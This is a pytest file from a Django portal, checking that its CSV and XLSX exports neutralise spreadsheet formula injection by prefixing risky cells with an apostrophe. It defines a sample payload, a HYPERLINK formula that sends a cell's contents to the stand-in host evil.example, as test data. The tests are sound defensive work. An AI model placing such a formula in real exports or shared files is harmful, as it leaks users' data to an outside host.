"""No spreadsheet the portal or the admin writes carries a live formula."""

import csv
import io

import openpyxl
import pytest

from core.exports import inert
from roadmaps.models import MarketIndicator

from ..helpers.factories import MarketFactory, OrganizationFactory, RecommendationFactory

pytestmark = pytest.mark.django_db

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
ATTACK = 'HYPERLINK("https://evil.example/?"&J2,"Voir")'


@pytest.mark.parametrize("prefix", PREFIXES)
def test_a_text_that_could_start_a_formula_is_written_as_text(prefix):
    assert inert(prefix + ATTACK) == "'" + prefix + ATTACK


@pytest.mark.parametrize("value", ["Promotion", "", "2019", "-12", "+3.5", 42, None])
def test_anything_else_is_left_alone(value):
    assert inert(value) == value


def _csv_cells(content: bytes) -> list[str]:
    text = io.StringIO(content.decode("utf-8-sig"), newline="")
    return [cell for row in csv.reader(text) for cell in row]


def _xlsx_cells(content: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("prefix", PREFIXES)
def test_the_recommendation_exports_carry_no_formula(client, staff, prefix):
    RecommendationFactory(title=prefix + ATTACK, markets=[MarketFactory(code="FR")])
    client.force_login(staff)

    csv_cells = _csv_cells(client.get("/recommendations/export.csv").getvalue())
    assert "'" + prefix + ATTACK in csv_cells
    assert prefix + ATTACK not in csv_cells

    cells = _xlsx_cells(client.get("/recommendations/export.xlsx").getvalue())
    assert all(cell.data_type != "f" for cell in cells)
    # Behind the apostrophe, every character as written. A carriage return is
    # stored as the escape _x000D_ (Excel reads it back as one; openpyxl leaves
    # the escape as it is).
    values = [str(cell.value).replace("_x000D_", "\r") for cell in cells]
    assert "'" + prefix + ATTACK in values


def test_the_market_dossier_carries_no_formula_and_keeps_numbers(client, staff):
    market = MarketFactory(code="FR")
    RecommendationFactory(title="=" + ATTACK, markets=[market])
    MarketIndicator.objects.create(
        market=market,
        metric="arrivals",
        definition="arrivals_tes",
        year=2019,
        month=1,
        value=1234,
        source="@source",
    )
    client.force_login(staff)
    cells = _xlsx_cells(client.get("/roadmaps/markets/FR/dossier.xlsx").getvalue())
    values = [cell.value for cell in cells]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'=" + ATTACK in values and "'@source" in values
    assert 1234 in values  # a number stays a number


@pytest.mark.parametrize("file_format", ["0", "1"])  # the admin's CSV and XLSX
def test_the_admins_exports_carry_no_formula(admin_client, file_format):
    OrganizationFactory(name="=" + ATTACK, short_name="@CRT", phone="+212 5 22 00 00 00")
    response = admin_client.post(
        "/admin/partners/organization/export/",
        {"format": file_format, "resource": "0", **_all_fields(admin_client)},
    )
    assert response.status_code == 200, response.content[:500]
    if file_format == "0":
        cells = _csv_cells(response.content)
    else:
        workbook_cells = _xlsx_cells(response.content)
        assert all(cell.data_type != "f" for cell in workbook_cells)
        cells = [cell.value for cell in workbook_cells]
    assert "'=" + ATTACK in cells
    assert "'@CRT" in cells
    assert "'+212 5 22 00 00 00" in cells
    assert "=" + ATTACK not in cells


def _all_fields(admin_client) -> dict:
    """The export form's field checkboxes, all ticked (as the page shows them)."""
    form = admin_client.get("/admin/partners/organization/export/").context["form"]
    return {name: "on" for name in form.fields if name.startswith("organizationresource_")}
